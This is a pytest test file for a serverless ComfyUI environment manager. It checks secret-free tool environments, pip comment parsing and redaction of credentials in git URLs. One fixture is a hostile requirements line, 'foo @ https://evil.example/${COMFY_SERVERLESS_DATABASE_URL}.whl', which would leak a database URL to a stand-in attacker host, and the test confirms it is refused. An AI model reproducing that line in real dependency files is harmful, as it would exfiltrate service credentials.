"""What pip and git are given: an allow-listed environment (never the service's secrets),
requirement lines read by pip's comment rule, and git URLs without their credentials."""

from __future__ import annotations

from pathlib import Path

import pytest

from comfy_serverless.environments.errors import InstallFailed, redact_userinfo
from comfy_serverless.environments.manifest import parse_manifest
from comfy_serverless.environments.requirements import pack_requirements, strip_comment
from comfy_serverless.environments.tool_env import tool_environment

SERVICE_ENVIRONMENT = {
    "PATH": "/usr/bin", "HOME": "/home/op", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8",
    "https_proxy": "http://proxy:3128", "NO_PROXY": "localhost", "PIP_NO_INDEX": "1",
    "PIP_INDEX_URL": "https://pypi.internal/simple", "SSL_CERT_FILE": "/etc/ca.pem",
    "REQUESTS_CA_BUNDLE": "/etc/ca.pem", "GIT_SSH_COMMAND": "ssh -i key",
    "SSH_AUTH_SOCK": "/run/agent",
    "COMFY_SERVERLESS_DATABASE_URL": "postgresql://u:secret@db/x",
    "COMFY_SERVERLESS_S3_SECRET_ACCESS_KEY": "secret", "HF_TOKEN": "hf_secret",
    "AWS_SECRET_ACCESS_KEY": "secret", "VIRTUAL_ENV": "/srv/service/.venv",
    "PYTHONPATH": "/srv/service/src",
}


def test_a_tool_gets_the_allowed_variables_and_no_secret() -> None:
    given = tool_environment({"GIT_TERMINAL_PROMPT": "0"}, SERVICE_ENVIRONMENT)
    assert given == {
        "PATH": "/usr/bin", "HOME": "/home/op", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8",
        "https_proxy": "http://proxy:3128", "NO_PROXY": "localhost", "PIP_NO_INDEX": "1",
        "PIP_INDEX_URL": "https://pypi.internal/simple", "SSL_CERT_FILE": "/etc/ca.pem",
        "REQUESTS_CA_BUNDLE": "/etc/ca.pem", "GIT_SSH_COMMAND": "ssh -i key",
        "SSH_AUTH_SOCK": "/run/agent", "GIT_TERMINAL_PROMPT": "0"}
    assert "secret" not in repr(given)


def test_the_process_environment_is_filtered_by_default(monkeypatch: pytest.MonkeyPatch
                                                         ) -> None:
    monkeypatch.setenv("COMFY_SERVERLESS_DATABASE_URL", "postgresql://u:secret@db/x")
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    given = tool_environment()
    assert "COMFY_SERVERLESS_DATABASE_URL" not in given
    assert given["PIP_NO_INDEX"] == "1"


@pytest.mark.parametrize(("line", "kept"), [
    ("pkg @ git+https://host/repo#subdirectory=x", "pkg @ git+https://host/repo#subdirectory=x"),
    ("pkg @ git+https://host/repo#egg=pkg  # pinned", "pkg @ git+https://host/repo#egg=pkg"),
    ("numpy>=1.25 # arrays", "numpy>=1.25"),
    ("numpy>=1.25\t#arrays", "numpy>=1.25"),
    ("# a comment", ""),
    ("  #indented", ""),
])
def test_comments_follow_pips_rule(line: str, kept: str) -> None:
    assert strip_comment(line) == kept


def test_a_packs_requirements_keep_a_url_fragment(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(
        "# tools\nnumpy>=1.25  # arrays\n\npkg @ git+https://host/repo#subdirectory=x\n")
    assert pack_requirements("n", None, tmp_path) == (
        "numpy>=1.25", "pkg @ git+https://host/repo#subdirectory=x")


def test_a_packs_requirement_that_expands_a_variable_is_refused_naming_node_and_step(
        tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(
        "foo @ https://evil.example/${COMFY_SERVERLESS_DATABASE_URL}.whl\n")
    with pytest.raises(InstallFailed) as refused:
        pack_requirements("leaky", None, tmp_path)
    assert (refused.value.subject, refused.value.step) == ("node 'leaky'", "requirements")
    assert "requirements.txt line 1" in str(refused.value)
    assert "'${' is not allowed" in str(refused.value)


@pytest.mark.parametrize(("text", "shown"), [
    ("https://user:token@git.example.com/a.git", "https://***@git.example.com/a.git"),
    ("fatal: unable to access 'https://ghp_abc@github.com/x/': 403",
     "fatal: unable to access 'https://***@github.com/x/': 403"),
    ("ssh://git@host/repo.git", "ssh://***@host/repo.git"),
    ("git@github.com:acme/pack.git", "git@github.com:acme/pack.git"),
    ("/srv/repos/pack.git", "/srv/repos/pack.git"),
])
def test_credentials_in_urls_are_redacted(text: str, shown: str) -> None:
    assert redact_userinfo(text) == shown


def test_a_nodes_recorded_source_and_its_errors_carry_no_credentials(tmp_path: Path) -> None:
    manifest = parse_manifest('name = "e"\n[[nodes]]\nname = "n"\n'
                              'git = "https://user:s3cret@git.example.com/a.git"\n'
                              f'commit = "{"a" * 40}"\n', tmp_path)
    assert manifest.nodes[0].source == "https://***@git.example.com/a.git"
    failed = InstallFailed.node("n", "clone failed",
                                "fatal: https://user:s3cret@git.example.com/a.git not found")
    assert "s3cret" not in str(failed)
